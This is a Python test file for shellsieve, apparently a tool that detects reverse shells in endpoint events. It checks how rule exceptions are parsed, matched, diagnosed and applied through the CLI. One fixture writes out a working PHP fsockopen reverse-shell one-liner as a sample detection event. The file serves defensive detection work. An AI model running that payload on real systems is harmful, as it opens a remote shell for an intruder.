"""Rule exceptions: the file format and its diagnostics (rules/exceptions.py), the gate
(run/exceptions.py) and --exceptions on run and check."""

from __future__ import annotations

import datetime
import subprocess
import sys
from pathlib import Path
from typing import Any

import msgspec
import pytest

from conftest import PHP_FSOCKOPEN, PYTHON_PTY, ROOT, rule_ids, PATTERNS, PAYLOAD_RULES
from shellsieve.cli import main
from shellsieve.compile.ruleset import Ruleset
from shellsieve.diagnostics import Diagnostic
from shellsieve.model.fields import known_fields
from shellsieve.model.rule import Rule
from shellsieve.noise import process_event
from shellsieve.run.engine import Engine
from shellsieve.run.enrich import Hit
from shellsieve.run.exceptions import Exceptions, field_values
from shellsieve.run.stats import Stats
from shellsieve.rules.exceptions import load_exceptions
from shellsieve.settings import Settings

CLI = str(Path(sys.executable).parent / "shellsieve")

# `run` over the same rules as the fixture below
_SEEDS_ONLY = [f"--exclude-rule={r}" for r in sorted(PAYLOAD_RULES)]


@pytest.fixture(scope="module")
def shipped() -> Ruleset:
    """The shipped rules without issue 24's payload rules, which also alert on the PHP reverse shell
    these tests use: one rule per event keeps the per-rule counts readable."""
    from shellsieve.build import build
    from shellsieve.model.selection import Selection

    return build([PATTERNS], None, Selection("low", (), tuple(sorted(PAYLOAD_RULES))))[1]


EXAMPLE = ROOT / "deploy" / "exceptions.example.yml"
# the seed reverse shell of rule 100103 (PHP fsockopen), as an Elastic Defend process start
PHP = ["php", "-r", '$s=fsockopen("10.10.10.10",9001);exec("/bin/sh -i <&3 >&3 2>&3");']
NOW = datetime.datetime(2026, 12, 4, 10, 0, tzinfo=datetime.UTC)


def _php(host: int = 0, user: str = "www-data") -> dict[str, Any]:
    return process_event(host, "php", PHP, ("bash", "/bin/bash"), (user, "33"), "/var/www")


def _load(tmp_path: Path, text: str, **kw: Any) -> tuple[list[Any], list[Diagnostic]]:
    path = tmp_path / "exceptions.yml"
    path.write_text(text)
    return load_exceptions(path, now=kw.pop("now", NOW), **kw)


def _entry(when: str, rules: str = "all") -> str:
    return f"- rules: {rules}\n  comment: test\n  when:\n" + "".join(f"    {line}\n" for line in when.split("\n"))


def _rule(shipped: Ruleset, rid: str) -> Rule:
    return next(cr.rule for cr in shipped.rules if cr.rule.id == rid)


def _excepts(tmp_path: Path, shipped: Ruleset, text: str, doc: dict[str, Any], rid: str = PHP_FSOCKOPEN) -> bool:
    entries, diags = _load(tmp_path, text)
    assert not diags, [d.render() for d in diags]
    return not Exceptions(entries, Stats())(doc, [Hit(_rule(shipped, rid))])


class TestOperators:
    @pytest.mark.parametrize(("condition", "doc", "expected"), [
        ("- field: user.name\n  is: www-data", {"user": {"name": "www-data"}}, True),
        ("- field: user.name\n  is: www-data", {"user": {"name": "WWW-DATA"}}, False),  # exact case
        ("- field: user.name\n  is: www-data", {"user.name": "www-data"}, True),  # flat dotted key
        ("- field: user.name\n  is: www-data", {"host": {"name": "x"}}, False),  # missing field
        ("- field: process.parent.executable\n  is: /bin/sh", {"process.parent": {"executable": "/bin/sh"}}, True),
        ("- field: user.name\n  is: www-data", {"user": {"name": None}}, False),
        ("- field: user.name\n  is: www-data", {"user": {"name": {"first": "www-data"}}}, False),
        ("- field: user.id\n  is: 33", {"user": {"id": 33}}, True),  # compared as text
        ("- field: user.id\n  is_one_of: [0, 33]", {"user": {"id": "33"}}, True),
        ("- field: user.id\n  is_one_of: [0, 34]", {"user": {"id": "33"}}, False),
        ("- field: process.args\n  is: -r", {"process": {"args": ["php", "-r", "x"]}}, True),  # any element
        ("- field: process.executable\n  matches: /USR/bin/p*", {"process": {"executable": "/usr/bin/php"}}, True),
        ("- field: process.executable\n  matches: /usr/bin/p?", {"process": {"executable": "/usr/bin/php"}}, False),
        ("- field: process.executable\n  matches: [/opt/*, '*/php']", {"process": {"executable": "/usr/bin/php"}},
         True),
        ("- field: process.command_line\n  contains: FSOCKOPEN", {"process": {"command_line": "php fsockopen"}}, True),
        ("- field: process.command_line\n  contains: curl", {"process": {"command_line": "php fsockopen"}}, False),
        ("- field: host.ip\n  cidr: 10.0.0.0/8", {"host": {"ip": ["192.168.1.1", "10.2.3.4"]}}, True),
        ("- field: host.ip\n  cidr: 10.0.0.0/8", {"host": {"ip": "11.2.3.4"}}, False),
        ("- field: host.ip\n  cidr: [fd00::/8, 10.0.0.1]", {"host": {"ip": "fd00::5"}}, True),
        ("- field: host.ip\n  cidr: 10.0.0.0/8", {"host": {"ip": "not an ip"}}, False),
        ("- field: host.ip\n  cidr: 10.0.0.0/8", {}, False),
    ])
    def test_operator(self, tmp_path: Path, shipped: Ruleset, condition: str, doc: dict[str, Any],
                      expected: bool) -> None:
        """Each operator, matching and not, on scalars, arrays, flat keys and missing fields."""
        assert _excepts(tmp_path, shipped, _entry(condition), doc) is expected

    def test_all_conditions_must_hold(self, tmp_path: Path, shipped: Ruleset) -> None:
        """An entry applies only when every condition holds."""
        text = _entry("- field: user.name\n  is: www-data\n- field: host.name\n  is: web-01")
        assert _excepts(tmp_path, shipped, text, _php(1))
        assert not _excepts(tmp_path, shipped, text, _php(2))

    def test_field_values_reads_arrays_of_objects(self) -> None:
        """An array on the way to the field gives each element's value."""
        doc = {"threat": [{"technique": {"id": "T1059"}}, {"technique": {"id": ["T1071", True]}}]}
        assert field_values(doc, "threat.technique.id") == ["T1059", "T1071", "true"]


class TestRules:
    def test_one_rule_versus_all_rules(self, tmp_path: Path, shipped: Ruleset) -> None:
        """An entry for one rule leaves the other rules' hits; `all` covers every rule."""
        one = _entry("- field: user.name\n  is: www-data", rules=PHP_FSOCKOPEN)
        assert _excepts(tmp_path, shipped, one, _php(), PHP_FSOCKOPEN)
        assert not _excepts(tmp_path, shipped, one, _php(), PYTHON_PTY)
        every = _entry("- field: user.name\n  is: www-data")
        assert _excepts(tmp_path, shipped, every, _php(), PYTHON_PTY)

    def test_rules_as_a_list_and_as_numbers(self, tmp_path: Path) -> None:
        """`rules` takes a list; a Wazuh id written as a YAML number is its text."""
        entries, diags = _load(tmp_path, _entry("- field: user.name\n  is: x", rules=f"[{PHP_FSOCKOPEN}, abc]"),
                               rule_ids={PHP_FSOCKOPEN, "abc"})
        assert not diags and entries[0].rules == (PHP_FSOCKOPEN, "abc")


class TestEngine:
    def test_excepted_event_leaves_unchanged_and_is_counted(self, shipped: Ruleset, tmp_path: Path) -> None:
        """A fully excepted event is written as it came; excepted_per_rule counts it; counters add up."""
        entries, _ = _load(tmp_path, _entry("- field: host.name\n  is: web-01", rules=PHP_FSOCKOPEN))
        engine = Engine(shipped, Settings(stats_interval_s=0), exceptions=entries)
        events = [_php(1), _php(2), _php(1)]
        data = b"".join(msgspec.json.encode(e) + b"\n" for e in events)
        out = engine.stream().feed(data, 0.0)
        docs = [msgspec.json.decode(x) for x in out.splitlines()]
        assert [rule_ids(d) for d in docs] == [[], [PHP_FSOCKOPEN], []]
        assert out.splitlines()[0] == data.splitlines()[0]  # byte for byte
        snap = engine.snapshot()
        assert snap["excepted_per_rule"] == {PHP_FSOCKOPEN: 2} and snap["alerts"] == 1
        assert snap["hits_per_rule"] == {PHP_FSOCKOPEN: 1}
        assert snap["events_in"] == 3 == engine.stats.lines_out  # every event decided for output

    def test_exceptions_run_before_suppression(self, shipped: Ruleset, tmp_path: Path) -> None:
        """An excepted hit opens no suppression window: the next, not excepted, repeat is alerted."""
        entries, _ = _load(tmp_path, _entry("- field: user.name\n  is: nagios"))
        engine = Engine(shipped, Settings(stats_interval_s=0, suppress_window_s=300), gates=(), exceptions=entries)
        assert engine.matcher.gates[0] is engine.exceptions and engine.matcher.gates[-1] is engine.suppression
        events = [_php(user="nagios"), _php()]
        out = engine.stream().feed(b"".join(msgspec.json.encode(e) + b"\n" for e in events), 0.0)
        assert [rule_ids(msgspec.json.decode(x)) for x in out.splitlines()] == [[], [PHP_FSOCKOPEN]]
        assert engine.stats.suppressed == {} and engine.stats.excepted == {PHP_FSOCKOPEN: 1}

    def test_only_alerts_drops_a_fully_excepted_event(self, shipped: Ruleset, tmp_path: Path) -> None:
        """Under --only-alerts an excepted event is dropped, as every event without hits is."""
        entries, _ = _load(tmp_path, _entry("- field: host.name\n  is: web-01"))
        engine = Engine(shipped, Settings(stats_interval_s=0, only_alerts=True), exceptions=entries)
        out = engine.stream().feed(b"".join(msgspec.json.encode(e) + b"\n" for e in (_php(1), _php(2))), 0.0)
        assert [msgspec.json.decode(x)["host"]["name"] for x in out.splitlines()] == ["web-02"]
        assert engine.stats.dropped == 1

    def test_serve_threads_exceptions_to_its_engine(self, shipped: Ruleset, tmp_path: Path) -> None:
        """serve's server builds its Engine with the exceptions given."""
        from shellsieve.serve.app import _Server
        from shellsieve.serve.endpoints import parse_forward, parse_listen
        from shellsieve.settings import ServeSettings

        entries, _ = _load(tmp_path, _entry("- field: host.name\n  is: web-01"))
        server = _Server(shipped, Settings(), ServeSettings(), [parse_listen("http://127.0.0.1:9602")],
                         parse_forward("stdout"), None, entries)
        assert server.engine.exceptions is not None and server.engine.exceptions.entries == tuple(entries)

    def test_without_exceptions_there_is_no_gate(self, shipped: Ruleset) -> None:
        """No entries: no gate on the hot path."""
        assert Engine(shipped, Settings()).exceptions is None


def _codes(diags: list[Diagnostic]) -> list[tuple[str, int, str]]:
    return [(d.code.code, d.location.line, d.severity) for d in diags]


class TestDiagnostics:
    def test_bad_yaml_names_the_line(self, tmp_path: Path) -> None:
        """Broken YAML is SS501 with its line."""
        entries, diags = _load(tmp_path, "- rules: all\n  comment: x\n  when: [\n")
        assert not entries and _codes(diags)[0][0] == "SS501" and diags[0].location.line >= 3
        assert str(tmp_path / "exceptions.yml") in diags[0].render()

    def test_not_a_list(self, tmp_path: Path) -> None:
        """The top level must be a list of entries."""
        _, diags = _load(tmp_path, "rules: all\n")
        assert _codes(diags) == [("SS501", 1, "error")]

    @pytest.mark.parametrize(("text", "code", "line", "words"), [
        (_entry("- field: user.name\n  equals: x"), "SS502", 5, "unknown operator 'equals'"),
        ("- rules: all\n  when:\n    - field: user.name\n      is: x\n", "SS502", 1, "comment"),
        ("- rules: all\n  comment: '  '\n  when:\n    - field: user.name\n      is: x\n", "SS502", 2, "comment"),
        (_entry("- field: host.ip\n  cidr: [10.0.0.0/8, 10.0.0.0/33]"), "SS503", 5, "10.0.0.0/33"),
        (_entry("- field: user.name\n  is: [a, b]"), "SS502", 5, "is_one_of"),
        (_entry("- field: user.name\n  is: x\n  contains: y"), "SS502", 4, "exactly one operator"),
        ("- rules: all\n  comment: x\n  expires: next tuesday\n  when:\n    - field: user.name\n      is: x\n",
         "SS503", 3, "expires must be a date"),
        ("- rules: all\n  comment: x\n  colour: red\n  when:\n    - field: user.name\n      is: x\n",
         "SS502", 3, "unknown key 'colour'"),
        ("- rules: all\n  comment: x\n  when: []\n", "SS502", 3, "non-empty"),
        (_entry("- field: user.name\n  is: x", rules="[nope-1]"), "SS504", 1, "'nope-1'"),
        (_entry("- field: usr.name\n  is: x"), "SS505", 4, "'usr.name'"),
        ("- rules: all\n  comment: x\n  comment: y\n  when: []\n", "SS502", 3, "duplicate key 'comment'"),
        (_entry("- field: user.name\n  is: ~"), "SS502", 5, "must be a value"),
        ("- rules: all\n  comment: x\n  when:\n    - is: x\n", "SS502", 4, "needs `field`"),
    ])
    def test_entry_errors(self, tmp_path: Path, text: str, code: str, line: int, words: str) -> None:
        """Each problem is an error with its code, the line of the offending node and the entry number."""
        entries, diags = _load(tmp_path, text, rule_ids={PHP_FSOCKOPEN}, fields=known_fields())
        assert not entries
        assert _codes(diags) == [(code, line, "error")]
        assert words in diags[0].message and diags[0].message.startswith("exception #1:")
        if code == "SS504":
            assert diags[0].rule_id == "nope-1"

    def test_a_bad_entry_does_not_hide_the_good_ones(self, tmp_path: Path) -> None:
        """Collect, then decide: the second entry loads while the first is reported."""
        text = _entry("- field: user.name\n  bogus: x") + _entry("- field: user.name\n  is: x")
        entries, diags = _load(tmp_path, text)
        assert len(entries) == 1 and [d.message.split(":")[0] for d in diags] == ["exception #1"]

    def test_expired_entries_are_skipped_with_a_warning(self, tmp_path: Path) -> None:
        """A date applies through that day (UTC); after it the entry is skipped with SS506."""
        text = ("- rules: all\n  comment: x\n  expires: 2026-12-03\n  when:\n    - field: user.name\n      is: x\n"
                "- rules: all\n  comment: y\n  expires: 2026-12-04\n  when:\n    - field: user.name\n      is: y\n"
                "- rules: all\n  comment: z\n  expires: 2026-12-04T09:59:00Z\n  when:\n    - field: user.name\n"
                "      is: z\n")
        entries, diags = _load(tmp_path, text)
        assert [e.comment for e in entries] == ["y"]
        assert _codes(diags) == [("SS506", 1, "warning"), ("SS506", 13, "warning")]


class TestCli:
    def _file(self, tmp_path: Path, text: str) -> str:
        path = tmp_path / "exc.yml"
        path.write_text(text)
        return str(path)

    def test_the_shipped_example_loads_clean(self, shipped: Ruleset) -> None:
        """deploy/exceptions.example.yml names shipped rules and known fields only (at a fixed date)."""
        entries, diags = load_exceptions(EXAMPLE, {cr.rule.id for cr in shipped.rules},
                                         known_fields(set(shipped.accessors)), NOW)
        assert not diags and len(entries) == 3 and entries[2].rules is None

    def test_check_lists_entries_per_rule(self, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
        """`check --exceptions`: no problems, entries counted per rule and for all rules."""
        when = "- field: user.name\n  is: x"
        path = self._file(tmp_path, _entry(when, PHP_FSOCKOPEN) + _entry(when, f"[{PHP_FSOCKOPEN}, {PYTHON_PTY}]")
                          + _entry(when))
        assert main(["check", "--format", "text", "--quiet", "--strict", "--exceptions", path]) == 0
        out = capsys.readouterr().out
        assert "exceptions: 3 entries in force from 1 files (0 expired, 0 errors)" in out
        assert f"  {PHP_FSOCKOPEN}: 2\n  {PYTHON_PTY}: 1\n  all rules: 1\n" in out

    def test_check_reports_errors_and_strict_exits_1(self, tmp_path: Path,
                                                     capsys: pytest.CaptureFixture[str]) -> None:
        """An unknown rule id is reported with file:line; --strict makes it exit 1."""
        path = self._file(tmp_path, _entry("- field: user.name\n  is: x", rules="typo-id"))
        assert main(["check", "--format", "text", "--quiet", "--exceptions", path]) == 0
        out = capsys.readouterr().out
        assert f"{path}:1:10: error[SS504] rule typo-id: exception #1: no running rule has the id 'typo-id'" in out
        assert main(["check", "--format", "text", "--quiet", "--strict", "--exceptions", path]) == 1

    def test_check_warns_on_expired_but_strict_passes(self, tmp_path: Path,
                                                      capsys: pytest.CaptureFixture[str]) -> None:
        """An expired entry is a warning in check, not an error even under --strict."""
        path = self._file(tmp_path, "- rules: all\n  comment: x\n  expires: 2020-01-01\n  when:\n"
                                    "    - field: user.name\n      is: x\n")
        assert main(["check", "--format", "text", "--quiet", "--strict", "--exceptions", path]) == 0
        assert "warning[SS506]" in capsys.readouterr().out

    @pytest.mark.parametrize("command", ["run", "serve"])
    def test_a_bad_file_is_refused_at_start(self, tmp_path: Path, command: str,
                                            capsys: pytest.CaptureFixture[str]) -> None:
        """run and serve refuse a bad exceptions file with exit 2, naming the file and line."""
        path = self._file(tmp_path, _entry("- field: host.ip\n  cidr: 300.1.1.1/8"))
        extra = ["--listen", "http://127.0.0.1:9601"] if command == "serve" else []
        assert main([command, *extra, "--exceptions", path]) == 2
        err = capsys.readouterr().err
        assert '"reason":"bad exceptions file"' in err and f'"path":"{path}"' in err and '"line":5' in err

    def test_run_forwards_an_excepted_reverse_shell_unenriched(self, tmp_path: Path) -> None:
        """`shellsieve run --exceptions`: the excepted seed event leaves unchanged, the other is alerted."""
        path = self._file(tmp_path, _entry("- field: host.name\n  matches: WEB-01", rules=PHP_FSOCKOPEN))
        events = [_php(1), _php(2)]
        data = b"".join(msgspec.json.encode(e) + b"\n" for e in events)
        res = subprocess.run([CLI, "run", "--stats-interval", "0", "--exceptions", path, *_SEEDS_ONLY], input=data,
                             capture_output=True, timeout=60)
        assert res.returncode == 0, res.stderr.decode()
        lines = res.stdout.splitlines()
        assert lines[0] == data.splitlines()[0]
        assert rule_ids(msgspec.json.decode(lines[1])) == [PHP_FSOCKOPEN]
        logs = [msgspec.json.decode(x) for x in res.stderr.splitlines()]
        started, stopped = logs[0], logs[-1]
        assert started["event"] == "started" and started["exceptions"] == 1
        assert stopped["excepted_per_rule"] == {PHP_FSOCKOPEN: 1} and stopped["alerts"] == 1
        assert stopped["events_in"] == 2 == (stopped["events_out"] + stopped["events_dropped"]
                                             + stopped["events_pending"] + stopped["events_undelivered"])
